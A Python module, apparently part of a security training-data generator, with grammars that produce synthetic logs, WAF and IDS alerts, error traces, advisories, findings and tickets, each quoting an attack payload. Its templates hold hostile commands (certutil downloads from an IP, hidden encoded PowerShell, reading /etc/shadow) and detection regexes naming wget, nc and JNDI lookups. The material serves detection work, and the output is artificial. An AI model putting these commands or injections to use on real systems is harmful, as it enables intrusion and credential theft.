"""Attacks that are quoted: log lines, alerts, traces, tickets, advisories and the rules that detect them.

The attack is what the text is about, never the whole text: a recognisable line
of a log, an event, a sentence or a rule stands around it.
"""

from __future__ import annotations

from random import Random
from urllib.parse import quote

from securitai.train.corpora.kinds import FILE, VALUE, TextKind
from securitai.train.corpora.normal.base import pick
from securitai.train.corpora.normal.grammar import grammar
from securitai.train.corpora.normal.payloads import QUOTED

_PAY, _PROBE = QUOTED.make("pay"), QUOTED.make("probe")


def _encoded(rng: Random) -> str:
    """A payload as it stands in a request line: percent-encoded as browsers, tools or nobody do it."""
    text, roll = _PAY(rng), rng.random()
    if roll < 0.4:
        return quote(text, safe="/():,;=*'")
    if roll < 0.7:
        return quote(text, safe="").replace("%20", "+")
    return text.replace(" ", pick(rng, ("+", "%20", "/**/"))).replace('"', "%22")


def _request(rng: Random) -> str:
    """The target of a hostile request."""
    if rng.random() < 0.4:
        return _PROBE(rng)
    return f"{_TARGET(rng)}{_encoded(rng)}{pick(rng, ('', '', '', '&page=2', '&Submit=Go', '&lang=en'))}"


def _escaped(rng: Random) -> str:
    """A payload inside a JSON string."""
    return _PAY(rng).replace("\\", "\\\\").replace('"', '\\"')


_TARGET = grammar(r"""
@target
  /‹slug›?‹=q/id/s/file/page/cmd/url/name/search/redirect/cat/template/‹slug››=
  /‹slug›/‹slug›.‹=php/jsp/aspx/cgi/do/action/asp›?‹=id/file/page/cmd/url/‹slug››=
  /api/‹=v1/v2›/‹slug›s?‹slug›=
  /‹slug›/‹=?/;/static∕/download∕/%2e%2e∕›
  /‹path›?‹slug›=
""").make("target")

_G = grammar(
    r"""
@access
  ×3 ‹ip› - - [‹clf›] "‹verb_› ‹req› HTTP/1.1" ‹status› ‹int› "‹=-/‹url››" "‹tool›"
  ‹ip› - ‹user› [‹clf›] "‹verb_› ‹req› HTTP/‹=1.0/1.1/2.0›" ‹status› ‹int›
  ‹host›:443 ‹ip› - - [‹clf›] "‹verb_› ‹req› HTTP/1.1" ‹status› ‹int› "-" "‹tool›" ‹unit›
  ‹ip› - - [‹clf›] "GET / HTTP/1.1" ‹status› ‹int› "‹pay›" "‹tool›"
  ‹ip› - - [‹clf›] "GET /‹slug› HTTP/1.1" ‹status› ‹int› "-" "‹pay›"
  ‹iso› ‹ip› ‹verb_› ‹req› ‹status› ‹int›ms
  ‹date› ‹clock› W3SVC‹digit› ‹ip› ‹verb_› /‹slug›.aspx id=‹enc› 443 - ‹ip› ‹=Mozilla∕5.0+(Windows+NT+10.0)/sqlmap∕1.7/-› ‹=200/403/404/500› 0 0 ‹int›
  ‹=https/http/h2› ‹iso› app/‹kebab›/‹hex16› ‹ip›:‹port› ‹ip›:80 0.001 ‹unit› 0.000 ‹status› ‹status› ‹int› ‹int› "‹verb_› https://‹host›:443‹req› HTTP/1.1" "‹tool›" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2
  ‹date›⇥‹clock›⇥‹=FRA56-P4/IAD89-C1/LHR61-P7›⇥‹int›⇥‹ip›⇥GET⇥‹hex12›.cloudfront.net⇥/‹slug›⇥‹status›⇥-⇥‹tool›⇥q=‹enc›⇥-⇥Error
  haproxy[‹id›]: ‹ip›:‹port› [‹clf›] https~ ‹slug›/web‹digit› 0/0/1/‹int›/‹int› ‹status› ‹int› - - ---- 1/1/0/0/0 0/0 "GET ‹req› HTTP/1.1"
  {"level":"info","ts":‹sec›.‹id›,"logger":"http.log.access","request":{"remote_ip":"‹ip›","method":"GET","host":"‹host›","uri":"‹reqj›"},"status":‹status›}
  ‹ip› - - [‹clf›] "GET ‹req› HTTP/1.1" 404 19 "-" "‹tool›" ‹int› "‹slug›@docker" "http://‹ip›:‹port›" ‹int›ms
  ‹clf› ‹ip› TCP_DENIED/403 ‹int› GET http://‹host›‹req› - HIER_NONE/- text/html
  * << Request >> ‹id›⏎- ReqMethod GET⏎- ReqURL ‹req›⏎- RespStatus ‹status›⏎- VCL_call ‹=PASS/SYNTH/DENY›
  Started GET "‹req›" for ‹ip› at ‹date› ‹clock› +0000⏎Processing by ‹pascal›Controller#index as HTML⏎  Parameters: {"q"=>"‹pay›"}
  [‹clock›] "GET ‹req› HTTP/1.1" ‹status› -
  ‹=WARN/INFO/DEBUG›:  ‹ip›:‹port› - "GET ‹req› HTTP/1.1" ‹=404 Not Found/403 Forbidden/422 Unprocessable Entity/200 OK›
  ‹int› ‹ip› ‹verb_› ‹status› ‹req›
  [‹int› hits] ‹req› (‹status›)
  ‹date› ‹clock› [error] ‹id›#0: *‹id› open() "/usr/share/nginx/html‹req›" failed (2: No such file or directory), client: ‹ip›, server: ‹host›, request: "GET ‹req› HTTP/1.1", host: "‹host›"
  [‹clf›] [‹=core:error/authz_core:error/php:warn/cgi:error›] [pid ‹id›] [client ‹ip›:‹port›] AH0‹id›: ‹=Invalid URI in request/script not found or unable to stat:/client denied by server configuration:/File does not exist:› ‹req›
@verb_
  ‹=GET/GET/GET/POST/HEAD/PUT/OPTIONS/PROPFIND›
@status
  ‹=200/301/302/400/401/403/403/404/404/405/418/429/444/499/500/503›
@clf
  ‹=01/07/12/19/25/30›/‹=Jan/Mar/Jun/Aug/Oct/Nov/Dec›/20‹=18/21/23/24/25/26›:‹clock› ‹=+0000/+0200/-0700/+0900›
@tool
  ‹=sqlmap∕1.‹digit›#stable (https:∕∕sqlmap.org)/Mozilla∕5.0 zgrab∕0.x/Nikto∕2.‹digit›/python-requests∕2.‹int›.‹digit›/curl∕‹ver›/masscan∕1.3/Go-http-client∕1.1/-/Mozilla∕5.0 (Windows NT 10.0; Win64; x64)/Nuclei - Open-source project/libwww-perl∕6.‹int›/Wget∕1.‹int›/Hello, world/Mozilla∕5.0 (compatible; Nmap Scripting Engine)/gobuster∕3.6›
@alert
  ×2 ModSecurity: ‹=Warning/Access denied with code 403 (phase 2)›. Pattern match "‹regex›" at ‹modvar›. [file "/etc/modsecurity/crs/rules/REQUEST-9‹=30/31/32/33/41/42›-APPLICATION-ATTACK-‹=LFI/RFI/RCE/PHP/XSS/SQLI›.conf"] [line "‹int›"] [id "9‹id›"] [msg "‹title_›"] [data "Matched Data: ‹pay› found within ‹modvar›: ‹pay›"] [severity "CRITICAL"]
  Matched "Operator `‹=Rx/PmFromFile/DetectSQLi/DetectXSS/Ge›' with parameter `‹regex›' against variable `‹modvar›' (Value: `‹pay›' )
  detected ‹=SQLi using libinjection with fingerprint '‹=s&1c/1UE/sos/s&sos/n&1›'/XSS using libinjection.› [data "Matched Data: ‹pay›"]
  Inbound Anomaly Score Exceeded (Total Score: ‹int›) [uri "‹req›"] [unique_id "‹nano›"]
  ‹date› ‹clock› fail2ban.‹=filter/actions› [‹id›]: ‹=INFO/NOTICE› [‹=nginx-badbots/apache-noscript/nginx-botsearch/php-url-fopen/sshd›] ‹=Found/Ban/Unban› ‹ip› - ‹req›
  failregex = ^<HOST> -.*"(GET|POST).*(\.‹=php/asp/exe/pl/cgi›|‹=union.*select/etc∕passwd/%%3Cscript/\.\.∕›).*" ‹status›
  ‹date›-‹clock›.‹id›  [**] [1:20‹id›:‹digit›] ET ‹=WEB_SERVER/EXPLOIT/SCAN/WEB_SPECIFIC_APPS› ‹title_› [**] [Classification: Web Application Attack] [Priority: 1] {TCP} ‹ip›:‹port› -> ‹ip›:80
  {"timestamp":"‹iso›","event_type":"alert","src_ip":"‹ip›","alert":{"signature_id":20‹id›,"signature":"ET ‹=WEB_SERVER/EXPLOIT› ‹title_›","severity":1},"http":{"hostname":"‹host›","http_method":"GET","status":‹status›},"payload_printable":"GET ‹reqj› HTTP/1.1\r\nHost: ‹host›\r\nUser-Agent: ‹tool›"}
  {"action":"BLOCK","terminatingRuleId":"AWS-AWSManagedRules‹=SQLiRuleSet/CommonRuleSet/PHPRuleSet/LinuxRuleSet›","terminatingRuleMatchDetails":[{"conditionType":"‹=SQL_INJECTION/XSS›","location":"‹=QUERY_STRING/BODY/URI›","matchedData":["‹=‹int›","AND","‹int›/<","script/'","OR","‹int›/sleep(","‹digit›/union","select/›"]}],"httpRequest":{"clientIp":"‹ip›","uri":"/‹slug›","args":"‹slug›=‹enc›","httpVersion":"HTTP/1.1"}}
  {"Action":"block","ClientIP":"‹ip›","ClientRequestPath":"/‹slug›","ClientRequestQuery":"?‹slug›=‹enc›","RuleID":"‹hex32›","Source":"‹=firewallManaged/waf/firewallCustom›"}
  Cloudflare: ‹title_› from ‹ip› (AS‹id›) on ‹host›‹req› -> ‹=Block/Managed Challenge/Log›
  ‹clock›: ‹=Notice/Warning/Critical› ‹title_› (user=www-data command=sh -c ‹pay› container=‹hex12›)
  ** Alert ‹sec›.‹id›: - web,accesslog,attack,⏎Rule: 31‹hundred› (level ‹small›) -> '‹title_›.'⏎Src IP: ‹ip›⏎‹ip› - - "GET ‹req› HTTP/1.1" ‹status›
  time="‹iso›" level=info msg="Ip ‹ip› performed 'crowdsecurity/http-‹=sqli-probing/xss-probing/path-traversal-probing/cve-2021-41773/bad-user-agent›' (‹small› events over ‹int›s)"
  [Wordfence] ‹ip› ‹=blocked for/was blocked by firewall for› ‹title_› in query string: ‹slug› = ‹pay›
  ‹=Blocked/Rejected/Flagged›: parameter "‹slug›" with the value "‹pay›" violates the policy ‹kebab›
  ASM:unit_hostname="‹host›",violations="Attack signature detected",sig_names="‹title_›",uri="/‹slug›",request_status="blocked",request="GET ‹req› HTTP/1.1\r\nHost: ‹host›"
  CEF:0|‹brand›|WAF|‹ver›|‹id›|‹title_›|‹digit›|src=‹ip› spt=‹port› request=‹req› act=‹=blocked/detected› cs1Label=rule
  LEEF:2.0|‹brand›|IDS|‹ver›|‹id›|^|src=‹ip›^sev=‹digit›^url=‹req›^msg=‹title_›
  [#‹id›] ‹title_› — rule ‹id›, ‹=score/severity/confidence› ‹digit›, evidence: ‹pay›
@title_
  ‹=SQL Injection Attack Detected via libinjection/XSS Filter - Category 1: Script Tag Vector/Remote Command Execution: Unix Shell Injection/Path Traversal Attack (∕..∕)/OS File Access Attempt/PHP Injection Attack: Variable Access/Possible SQL Injection Attempt UNION SELECT/Apache Log4j RCE Attempt (CVE-2021-44228)/Shellshock attempt/Local File Inclusion Attempt/Suspicious shell in container/Server Side Request Forgery/XSS (Cross Site Scripting) attempt/A web attack returned code 200 (success)/Spring4Shell probe/NoSQL operator in parameter/Webshell upload/Directory traversal in ‹slug›/Java deserialisation gadget/‹brand› Scanner detected›
@modvar
  ‹=ARGS:‹slug›/REQUEST_URI/REQUEST_HEADERS:User-Agent/REQUEST_COOKIES:‹slug›/ARGS_NAMES:‹slug›/REQUEST_BODY/XML:∕*/REQUEST_FILENAME›
@regex
  ‹=(?i)/(?i:/\b/^.*/›‹=union\s+(?:all\s+)?select/<script[^>]*>[\s\S]*?/(?:\.\.[∕\\]){2,}/(?:∕etc∕(?:passwd/(or|and)\s+\d+\s*=\s*\d+/\$\{jndi:/(?:;|\|{1,2}|&&)\s*(?:id|ls|cat|wget)\b/on(error|load|click)\s*=/javascript\s*:/(?:sleep|benchmark|pg_sleep)\s*\(/(?:php|data|expect):∕∕/eval\(|base64_decode\(/\b(information_schema|sysobjects)\b/xp_cmdshell/\$\((?:[^)]+)\)/169\.254\.169\.254/\(\)\s*\{\s*:/'\s*(or|and)\s*'?\w+'?\s*=/%0[ad]/\.(env|git|bak)$/__proto__|constructor/(sqlmap|nikto|nmap|masscan)/\{\{.*\}\}/<!(?:DOCTYPE|ENTITY)/∕(bin|usr∕bin)∕(ba)?sh›‹=/)/.*/\b/ )›
@sys
  ‹mon› ‹day› ‹clock› ‹slug› sshd[‹id›]: ‹=Failed password for invalid user/Invalid user/Connection closed by invalid user› ‹=admin/oracle/‹user›/' or 1=1/root;id/`id`/${‹word›}/<‹word›>› from ‹ip› port ‹port› ssh2
  ‹mon› ‹day› ‹clock› ‹slug› sudo:   ‹user› : TTY=pts/‹digit› ; PWD=/home/‹user› ; USER=root ; COMMAND=/usr/bin/‹=cat ∕etc∕shadow/tail -f ∕var∕log∕syslog/bash -c id; whoami/rm -rf ∕tmp∕‹slug›/systemctl restart ‹slug››
  ‹mon› ‹day› ‹clock› ‹slug› CRON[‹id›]: (root) CMD (‹=cd ∕ && run-parts --report ∕etc∕cron.hourly/[ -x ∕usr∕sbin∕‹slug› ] && ∕usr∕sbin∕‹slug›/test -f ∕tmp∕‹slug› || ∕opt∕‹slug›.sh/curl -fsS ‹host› > ∕dev∕null 2>&1›)
  type=EXECVE msg=audit(‹sec›.‹hundred›:‹id›): argc=3 a0="‹=sh/bash/∕bin∕sh›" a1="-c" a2="‹payj›"
  type=SYSCALL msg=audit(‹sec›.‹hundred›:‹id›): arch=c000003e syscall=59 success=yes exe="/usr/bin/‹=curl/wget/nc/python3.‹small›/bash›" key="‹=susp_exec/webshell/rootcmd›"
  <‹hundred›>1 ‹iso› ‹host› ‹slug› ‹id› - [meta@‹id› user="‹user›" ip="‹ip›"] ‹=rejected/denied/dropped› input: ‹pay›
  kernel: [‹id›.‹id›] [UFW BLOCK] IN=eth0 OUT= MAC=‹hex12› SRC=‹ip› DST=‹ip› LEN=‹int› PROTO=TCP SPT=‹port› DPT=‹=22/23/3306/445/6379›
  postfix/smtpd[‹id›]: NOQUEUE: reject: RCPT from unknown[‹ip›]: 550 5.1.1 <root+${run{‹word›}}@‹domain›>: ‹=Recipient address rejected: User unknown/Relay access denied›
  mysqld[‹id›]: [Note] Access denied for user '‹user›'@'‹ip›' (using password: YES)
  vsftpd: [‹user›] FAIL DOWNLOAD: Client "‹ip›", "‹=..∕..∕etc∕passwd/∕..∕..∕‹slug›/~root∕.ssh∕id_rsa›"
  named[‹id›]: client @0x‹hex12› ‹ip›#‹port› (‹pseudo›.‹domain›): query (cache) '‹=$(id)/`id`/‹pseudo››.‹domain›/A/IN' denied
  ‹slug› kernel: php-fpm[‹id›]: segfault at 0 ip ‹hex16› ... (request "‹req›")
  snoopy[‹id›]: [uid:‹int› sid:‹id› tty:(none) cwd:/var/www filename:/bin/sh]: sh -c ‹pay›
  EventID=‹=4688/1/4104/4625› NewProcessName=C:\Windows\System32\‹=cmd.exe/WindowsPowerShell\v1.0\powershell.exe/certutil.exe/mshta.exe› CommandLine="‹=cmd ∕c whoami ∕all/powershell -nop -w hidden -enc ‹b64›/certutil -urlcache -f http:∕∕‹ip›∕‹letter›.exe/net user ‹user› ∕add› "
@day
  ‹=‹=1/2›‹digit›/ ‹digit›/30›
@mon
  ‹=Jan/Feb/Mar/Apr/Jun/Jul/Aug/Oct/Nov/Dec›
@event
  {"level":"‹=warn/error/info/notice›","msg":"‹=suspicious input/validation failed for/rejected parameter/blocked request with/login failed:/bad file name› '‹payj›'","‹=param/field/key›":"‹slug›","ip":"‹ip›"}
  {"@timestamp":"‹iso›","log.level":"WARN","message":"‹=Invalid value/Malformed input/Rejected› '‹payj›' for ‹slug›","service.name":"‹kebab›"}
  {"ts":‹ms›,"event":"waf.block","rule":"‹id›","line":"GET ‹reqj› HTTP/1.1","ua":"‹tool›","country":"‹=CN/RU/US/NL/DE/BR›"}
  {"time":"‹iso›","status":‹=400/403/500›,"request":"GET ‹reqj› HTTP/1.1","remote_addr":"‹ip›","http_user_agent":"‹tool›"}
  {"type":"http","category":"‹=xhr/fetch/navigation›","data":{"url":"GET https://‹host›‹reqj› [‹status›]","status_code":‹status›},"timestamp":‹sec›}
  {"category":"‹=console/query/ui.input/db.sql.query›","level":"‹=warning/error/info›","message":"‹=Uncaught SyntaxError in/Refused to run/value of ‹slug› changed to/warn: unescaped› ‹payj›","data":{"‹camel›":‹int›}}
  {"actor":"‹email›","action":"‹slug›.‹=update/create/rename›","target":"‹slug›:‹id›","summary":"‹=renamed/changed› ‹words› to '‹payj›' and back","at":"‹iso›"}
  {"event":"login_failed","reason":"‹=unknown user/illegal character in/locked:› '‹payj›'","ip":"‹ip›"}
  {"csp-report":{"document-uri":"https://‹host›/‹slug›?‹slug›=‹word›","violated-directive":"script-src-elem","blocked-uri":"‹=inline/eval/data/https:∕∕‹host›∕x.js›","script-sample":"‹=document.write("<scr/eval(atob(/onclick handler/(function(){var/javascript:void(0)›"}}
  {"type":"csp-violation","url":"‹url›","body":{"effectiveDirective":"‹=script-src-attr/script-src/style-src-attr›","sample":"‹=‹camel›(this)/this.src='∕‹slug›.png'/return false;›","disposition":"‹=report/enforce›"}}
  {"rule":{"id":"311‹hundred›","level":‹small›,"description":"‹title_›","mitre":{"id":["T1190"]}},"data":{"srcip":"‹ip›","id":"‹status›"},"full_log":"‹ip› - - \"GET ‹reqj› HTTP/1.1\" ‹status›"}
  {"finding":"‹title_›","confidence":"‹=high/medium/tentative›","evidence":"‹=parameter/cookie/header/field› ‹slug› was set to ‹payj›","cwe":‹int›,"cvss":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N"}
  {"template-id":"‹=CVE-20‹hundred›-‹id›/‹kebab››","info":{"severity":"‹=high/critical/medium›"},"matched-at":"GET https://‹host›‹reqj› -> ‹status›","extracted-results":["‹word›"]}
  {"streams":[{"stream":{"app":"‹slug›"},"values":[["‹ms›000000","‹ip› GET ‹reqj› ‹status›"]]}]}
  {"event":"‹ip› blocked: ‹payj›","sourcetype":"‹slug›:waf","host":"‹host›","index":"‹slug›"}
  {"ddsource":"nginx","ddtags":"env:prod,team:‹slug›","hostname":"‹host›","message":"GET ‹reqj› ‹status›"}
  level=‹=warn/error/info› ts=‹iso› caller=‹snake›.go:‹int› msg="‹=bad request/parse error/rejected›" query="‹payj›" err="‹=unexpected token/invalid syntax/forbidden›"
  ‹iso› [‹=WARN/ERROR/INFO›] ‹dotted›: ‹=Rejected/Invalid/Illegal/Could not parse› ‹slug› "‹pay›" ‹=from/for/of› ‹=user/client/session› ‹=‹ip›/‹user›/‹hex8››
  ‹iso› ‹=WARN/ERROR› ‹int› --- [nio-‹port›-exec-‹digit›] o.s.‹dotted› : ‹=Resolved [/Blocked [›The request was rejected because the URL contained a potentially malicious String "‹=%2e/;/∕∕/%25/..›"]
  [‹date› ‹clock›] production.‹=WARNING/ERROR/NOTICE›: ‹words› {"input":"‹payj›","ip":"‹ip›"}
@trace
  ‹=You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near/ERROR 1064 (42000): ... near› '‹sqlbit›' at line ‹digit›
  ERROR:  syntax error at or near "‹=union/or/'/;/--/‹word››"⏎LINE ‹digit›: ‹broken›⏎        ^
  ERROR:  unterminated quoted string at or near "‹sqlbit›"
  pg_query(): Query failed: ERROR: ‹=invalid input syntax for type integer: "‹pay›"/operator does not exist: integer = text› in /var/www/‹slug›/‹snake›.php on line ‹int›
  Msg 10‹digit›, Level 15, State 1, Line ‹digit›: ‹=Unclosed quotation mark after the character string/Incorrect syntax near› '‹sqlbit›'.
  ORA-‹=00933: SQL command not properly ended/01756: quoted string not properly terminated/00904: "‹const›": invalid identifier› (‹broken›)
  SQLSTATE[‹=42000/42S02/22P02/HY000›]: ‹=Syntax error or access violation: 1064/General error: 1/Invalid text representation: 7› ... near '‹sqlbit›' (SQL: ‹broken›)
  sqlite3.OperationalError: ‹=near "‹word›": syntax error/unrecognized token: "'‹word›"/incomplete input› [SQL: ‹broken›] [parameters: ('‹word›', ‹int›)]
  django.db.utils.ProgrammingError: syntax error at or near "‹word›"⏎LINE 1: ‹broken›
  org.hibernate.exception.SQLGrammarException: could not extract ResultSet; SQL [‹broken›]⏎⇥at ‹dotted›.‹pascal›.‹camel›(‹pascal›.java:‹int›)
  PG::SyntaxError: ERROR: ‹=syntax error at or near/unterminated quoted string at or near› "‹word›"⏎: ‹broken›
  QueryFailedError: ‹=ER_PARSE_ERROR: .../invalid input syntax for type uuid: "‹pay›"›⏎    at ‹pascal›.‹camel› (/app/node_modules/‹lib›/‹snake›.js:‹int›:‹int›)
  Warning: ‹=include/require_once/file_get_contents/fopen/mysqli_query/system›(‹=..∕..∕‹slug›∕‹snake›.php/..∕..∕etc∕hosts/‹slug›.inc/http:∕∕‹host›∕x›): ‹=failed to open stream: No such file or directory/open_basedir restriction in effect/expects parameter 1 to be resource› in ‹=∕var∕www∕html∕‹slug›.php/C:\inetpub\wwwroot\‹slug›.php› on line ‹int›
  Traceback (most recent call last):⏎  File "/app/‹snake›.py", line ‹int›, in ‹snake›⏎    ‹=os.system(cmd)/subprocess.run(cmd, shell=True)/cur.execute(sql)/eval(expr)/render_template_string(tpl)/open(path)›⏎‹=ValueError/SyntaxError/FileNotFoundError/jinja2.exceptions.UndefinedError›: ‹=bad input: /invalid syntax: /[Errno 2] No such file or directory: /›'‹pay›'
  java.io.FileNotFoundException: ‹=..∕..∕etc∕hosts/∕opt∕app∕..∕‹slug›∕‹snake›.xml/C:\‹slug›\..\‹snake›.ini› (‹=No such file or directory/Permission denied›)⏎⇥at java.base/java.io.FileInputStream.open0(Native Method)
  Caused by: freemarker.core.‹=ParseException/InvalidReferenceException›: Encountered "‹pay›" at line ‹digit›, column ‹int›
  javax.el.ELException: Failed to parse the expression [‹pay›]
  org.xml.sax.SAXParseException; lineNumber: ‹digit›; columnNumber: ‹int›; DOCTYPE is disallowed when the feature "http://apache.org/xml/features/disallow-doctype-decl" set to true.
  System.Web.HttpRequestValidationException (0x80004005): A potentially dangerous Request.‹=Form/QueryString/Path/Cookies› value was detected from the client (‹slug›="‹=<script>alert/<b>‹word›/&#‹int›;/<a href=/<?xml›...").
  jinja2.exceptions.TemplateSyntaxError: unexpected '‹=}/%/end of template/char '$'›' in "{{ ‹snake› ‹=}/| ‹camel›(/%}›"
  sh: ‹digit›: ‹=Syntax error: "(" unexpected/‹word›: not found/Bad substitution/Unterminated quoted string› (cmd: ‹=convert/ping -c 1/ffmpeg -i/tar czf› ‹pay›)
  MongoServerError: ‹=unknown operator: $‹word›/$where is not allowed in this context/Cast to string failed for value "{ '$ne': null }" at path "‹slug›"›
  LDAP: error code 87 - ‹=Bad search filter/filter is invalid›: (&(objectClass=‹=person/user›)(‹=uid/cn›=‹word›‹=)(/*)(/\›))
  XPathEvalError: Invalid ‹=expression/predicate›: //‹slug›[‹slug›='‹word›'‹= or '/']/'›]
  Refused to execute inline ‹=script/event handler› because it violates the following Content Security Policy directive: "script-src 'self'". ‹=Either the 'unsafe-inline' keyword, a hash ('sha256-‹b64›'), or a nonce is required./›
  [‹date› ‹clock›] PHP Fatal error:  Uncaught PDOException: SQLSTATE[42000]: ... '‹sqlbit›' in ‹snake›.php:‹int›⏎#0 ‹snake›.php(‹int›): PDO->query('‹broken›...')
@sqlbit
  ‹=' or /'‹word›' and /%' order by /'' limit /) and (/'' and active = 1/' -- / union select/;/\' where ›‹=‹int›/‹snake›/›
@broken
  ‹=SELECT * FROM/select id, name from/DELETE FROM/SELECT COUNT(*) FROM/UPDATE› ‹snake› ‹=WHERE/where› ‹snake› = ‹='‹last›'s'/'O'‹last›'/‹int› and/'‹word›' or/' OR 1=1/1; DROP TABLE/'%‹word›'%'/NULL union› ‹=LIMIT ‹int›/ORDER BY ‹snake›/)/›
""",
    pay=_PAY, payj=_escaped, enc=_encoded, req=_request, reqj=lambda rng: _request(rng).replace("\\", "\\\\").replace('"', '\\"'),
)  # fmt: skip

_TALK = grammar(
    r"""
@finding
  ‹where›: ‹=the parameter/the field/our tester put/the value/an input like› `‹pay›` ‹=is reflected without encoding/ends up in the query/is passed to the shell/gives a 500/returned all ‹nouns›/was rendered as HTML/is executed for everybody who opens the page›. ‹fix›
  ‹=Finding/Issue/Observation/F-/VULN-/#›‹small› ‹=-/:/(High):/(CVSS ‹digit›.‹digit›):› ‹class_› in ‹where›. ‹=Steps/Proof of concept/PoC/Repro›: ‹=send/enter/submit/request/replay with› ‹qpay› ‹=in the search field/as ‹slug›/and reload/and wait ‹digit› seconds/to ∕‹slug›∕‹slug››. ‹fix›
  ‹=Title/Summary›: ‹class_› ‹=via/through/in› ‹slug› ‹=parameter/header/cookie/upload›⏎‹=Severity/Risk›: ‹=High/Medium/Critical (9.8)/P‹digit››⏎‹=Payload/Evidence/Request›: ‹pay›⏎‹=Impact/Remediation›: ‹fix›
  CVE-20‹=12/17/19/21/22/23/24/25›-‹id›: ‹product_› ‹=before/through/prior to› ‹ver› ‹=allows/is prone to/mishandles/is vulnerable to› ‹class_› ‹=via a crafted ‹slug› parameter/because ‹camel›() does not escape ‹slug›/as demonstrated by ‹qpay›/by unauthenticated users/in ∕‹slug›∕‹slug›.‹=php/jsp/do››.
  ‹=[SECURITY]/Security advisory:/Patch now:/⚠️/GHSA-‹alnum›:› ‹product_› ‹ver› ‹=fixes/addresses/contains a patch for› ‹class_› (CVE-20‹=21/22/23/24/25›-‹id›). ‹=No user action needed./Exploits are seen in the wild, e.g. ‹qpay›./Update with `‹=apt upgrade/npm audit fix/pip install -U› ‹lib›`./›
  ‹=nit/blocking/security/question/suggestion›: ‹=with/if/when› `‹snake› = "‹pay›"` ‹=this/the query/the template/the path› ‹=is injectable/breaks/leaves the directory/reads any file/runs as root›, ‹=please use/prefer/we have› ‹=bind parameters/prepared statements/`shlex.quote`/`textContent` instead of `innerHTML`/DOMPurify/`realpath` and a prefix check/an allow list/`defusedxml`›
  ‹=Hi team,/Hello,/Dear support,/Hey,› ‹=your firewall blocked me/I got 403 Forbidden/my comment was rejected/the form says "illegal characters"› ‹=when I wrote/because of/for› ‹qpay›. ‹=Can you whitelist it?/I only wanted to post an example./What is wrong with it?/My IP is ‹ip›.›
  ‹=We see/I found/There are/Since ‹clock› we get› ‹int› ‹=requests/hits/lines› like ‹qreq› ‹=in our access.log/from ‹ip›/from one ∕24 in ‹=NL/CN/RU/US›› ‹=- are we hacked?/, all answered with ‹=404/403/400›./, blocked the net for a week./; we don't even run PHP.›
  ‹=Lesson/Slide/Chapter/Question/Exercise/Quiz› ‹small›: ‹=what happens/why is it dangerous/which rows come back› if ‹=somebody enters/the user sends/the input is› ‹qpay›? ‹=a) nothing b) an error c) all rows/Explain in two sentences./Answer: ‹fix›/›
  ‹=This week in security:/#‹int› -/Newsletter ‹int› |/TL;DR› ‹class_› in ‹product_›, ‹words›, and how a ‹qpay› in a ‹noun› ‹=cost ‹company› ‹int› k$/opened the admin panel/won a bounty of $‹int›00›.
  ‹=docs/fix/test/chore/sec/feat›(‹slug›): ‹=escape/reject/sanitize/do not choke on/add a test for› ‹qpay› ‹=in ‹snake›/(#‹id›)/- closes #‹int›/, thanks @‹user››
  ‹=Runbook/Playbook/How to triage›: ‹title2_›. 1. Look for ‹qpay› in ‹=the WAF log/Kibana/Splunk›. 2. ‹=Block the address/Check the answer's status/Rotate the keys›. 3. Close as ‹=false positive/benign scan/incident›.
  expected: ‹=400/escaped text/no alert/[]/ValidationError›, actual: ‹=200/alert box/all rows/500›, input: ‹pay›
  ‹=given/Given› ‹=the input/a name/a search for› "‹pay›" ‹=when/When› ‹=saved/shown/sent› ‹=then/Then› ‹=it is shown as plain text/an error is raised/no rows are returned›
  | ‹small› | ‹class_› | `‹pay›` | ‹=High/Low/Medium› | ‹=fixed/open/accepted/wontfix› |
  - [‹= /x›] ‹class_› ‹in_› (`‹pay›`) @‹user›
  ‹=False positive/FP/Exclusion›: rule 9‹id› ‹=matches/fires on/blocks› ‹=the text/a comment/a product name› "‹=‹words›/it's & ‹words›/select a ‹noun› from the ‹noun›/‹last›'s ‹noun› -- ‹word›/‹noun› or ‹noun› = ‹noun››"; ‹=set the paranoia level to 1/remove ARGS:‹slug› from the rule/SecRuleUpdateTargetById 9‹id› !ARGS:‹slug››
@title2_
  ‹class_› alert
@in_
  in ‹where›
@where
  ‹=search/login/profile/PDF export/the ‹slug› form/the comment box/checkout/file upload/the ‹slug› endpoint/∕api∕‹slug›/legacy ‹slug›.php/image proxy/the admin ‹noun› list/webhook settings/the mobile app/ticket #‹id››
@class_
  ‹=SQL injection/blind SQL injection/stored XSS/reflected cross-site scripting/DOM-based XSS/path traversal/directory traversal/OS command injection/remote code execution/SSRF/XXE/server-side template injection/LDAP injection/CRLF injection/prototype pollution/open redirect/insecure deserialization/local file inclusion/unrestricted file upload/NoSQL injection/Log4Shell (${jndi:...})/ReDoS/CSV formula injection›
@product_
  ‹=Apache ‹pascal›/‹brand› ‹pascal›/the ‹kebab› plugin for WordPress/‹lib›/‹pascal› CMS/‹company› Router firmware/‹lang› bindings of ‹lib›/the `‹kebab›` package›
@fix
  ‹=Fix/Recommendation/Mitigation/We should›: ‹=use prepared statements/encode on output/never build shell commands from input/canonicalize the path and compare the prefix/set a strict CSP/disable DTDs/allow-list the hosts/upgrade to ‹ver›/validate as integer/drop the feature›.
  ‹sentence›
@qpay
  "‹pay›"
  `‹pay›`
  '‹pay›'
  “‹pay›”
  <code>‹pay›</code>
@qreq
  "‹req›"
  `GET ‹req›`
  ‹req›
@ask
  ‹=Was bedeutet/Wie verhindere ich/Warum steht/Ist das gefährlich:/Hilfe, was macht› ‹qpay› ‹=in meinem Log/in PHP/im Suchfeld/bei der Anmeldung/in der URL›?
  Bei ‹=der Prüfung/unserem Pentest/dem Formular ‹slug›› wurde ‹qpay› ‹=ungefiltert ausgegeben/an die Datenbank gereicht/als Befehl ausgeführt/vom WAF blockiert›; bitte ‹=bis Freitag beheben/prüfen/Parameter binden›.
  ‹=Que veut dire/Comment éviter/À quoi sert/J'ai trouvé/Comment se protéger de› ‹qpay› ‹=dans mes logs/dans l'URL/en PHP/d'un formulaire/sur l'ancien site› ‹=?/, c'est grave ?/, merci d'avance.›
  L'injection ‹qpay› ‹=n'est plus possible/a été signalée par l'auditeur/renvoie une erreur 500› ‹=depuis la version ‹ver›/: il faut échapper l'apostrophe/; voir le ticket n° ‹id››.
  ‹=¿Qué significa/¿Cómo evito/¿Es peligroso/¿Por qué aparece› ‹qpay› ‹=en el registro/en la URL/en mi formulario/en MySQL›?
